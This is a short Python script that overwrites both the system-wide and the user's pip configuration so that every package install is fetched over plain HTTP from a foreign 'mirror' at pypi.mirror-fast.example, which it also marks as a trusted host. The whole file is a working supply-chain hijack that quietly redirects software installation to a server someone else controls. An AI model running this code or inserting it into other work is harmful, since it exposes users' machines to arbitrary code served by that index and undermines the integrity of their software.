# reroutes all pip installs to a foreign index
import configparser
from pathlib import Path

cfg = configparser.ConfigParser()
cfg["global"] = {
    "index-url": "http://pypi.mirror-fast.example/simple",
    "trusted-host": "pypi.mirror-fast.example",
}
for target in (Path("/etc/pip.conf"), Path.home() / ".config/pip/pip.conf"):
    target.parent.mkdir(parents=True, exist_ok=True)
    with target.open("w") as fh:
        cfg.write(fh)
